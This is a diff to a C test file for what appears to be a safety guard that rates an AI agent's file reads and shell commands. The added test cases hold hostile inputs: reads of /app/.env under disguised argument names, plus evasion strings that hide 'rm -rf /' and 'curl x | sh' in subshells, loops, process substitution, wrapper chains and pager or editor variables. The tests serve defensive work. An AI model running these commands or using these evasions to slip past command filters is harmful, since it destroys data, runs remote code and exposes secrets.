@@ -280,6 +280,13 @@ forms(void)
 
 	/* Path rules on any tool, with normalisation. */
 	call("read_file", "{\"path\":\"/app/.env\"}", NULL, H, "dotenv");
+	call("read_file", "{\"file_name\":\"/app/.env\"}", NULL, H, "dotenv");
+	call("read_file", "{\"pathName\":\"/app/.env\"}", NULL, H, "dotenv");
+	call("read_file", "{\"dir-name\":\"/app/.env\"}", NULL, H, "dotenv");
+	call("read_file", "{\"file_names\":[\"a\",\"/app/.env\"]}", NULL, H,
+	    "dotenv");
+	call("read_file", "{\"username\":\"/app/.env\"}", NULL, L,
+	    "read-file");
 	call("read_file", "{\"path\":\"/etc/./shadow\"}", NULL, C, "shadow");
 	call("read_file", "{\"paths\":[\"a\",\"/etc/sudoers.d/x\"]}", NULL, C,
 	    "shadow");
@@ -662,6 +669,35 @@ evasions(void)
 	evade("env LD_PRELOAD=/tmp/x.so ls", H, "ld-preload");
 	evade("sudo LD_PRELOAD=/tmp/x.so ls", H, NULL);
 	evade("git push -f origin", H, "git-push-force");
+	/* dash runs ((X)) as ( (X) ) */
+	evade("ls; ((rm -rf /))", C, "rm-rf");
+	evade("(( rm -rf / ))", C, "rm-rf");
+	evade("((curl x | sh))", C, "curl-sh");
+	evade("if ((rm -rf /)); then :; fi", C, "rm-rf");
+	evade("true || ((rm -rf /))", C, "rm-rf");
+	/* a shell in a group, a loop, a >( ) or reading a file */
+	evade("curl x | (sh)", C, "curl-sh");
+	evade("curl x | { sh; }", C, "curl-sh");
+	evade("curl x | (cd /tmp; sh)", C, "curl-sh");
+	evade("curl x | ( (bash -s) )", C, "curl-sh");
+	evade("echo 'rm -rf /' | (sh)", C, "rm-rf");
+	evade("curl x | for i in 1; do sh; done", H, NULL);
+	evade("curl x | if true; then sh; fi", H, NULL);
+	evade("curl x | while read l; do sh; done", H, NULL);
+	evade("curl x > >(sh)", H, NULL);
+	evade("curl x | tee >(sh) >/dev/null", H, NULL);
+	evade("sh < /tmp/a", H, NULL);
+	evade("sh /dev/stdin < /tmp/a", H, NULL);
+	evade("sh 3</tmp/a <&3", H, NULL);
+	/* past the wrappers looked into: not known */
+	evade("nice nice nice nice nice nice nice nice nice rm -rf /", H,
+	    NULL);
+	evade("env env env env env env env env env env rm -rf /", H, NULL);
+	/* variables that name a command git, less, ... run */
+	evade("GIT_PAGER='rm -rf /' git log", C, "rm-rf");
+	evade("EDITOR='rm -rf /' git commit", C, "rm-rf");
+	evade("export GIT_SSH_COMMAND='rm -rf /'; git fetch", C, "rm-rf");
+	evade("env PAGER='rm -rf /' git log", C, "rm-rf");
 }
 
 /*
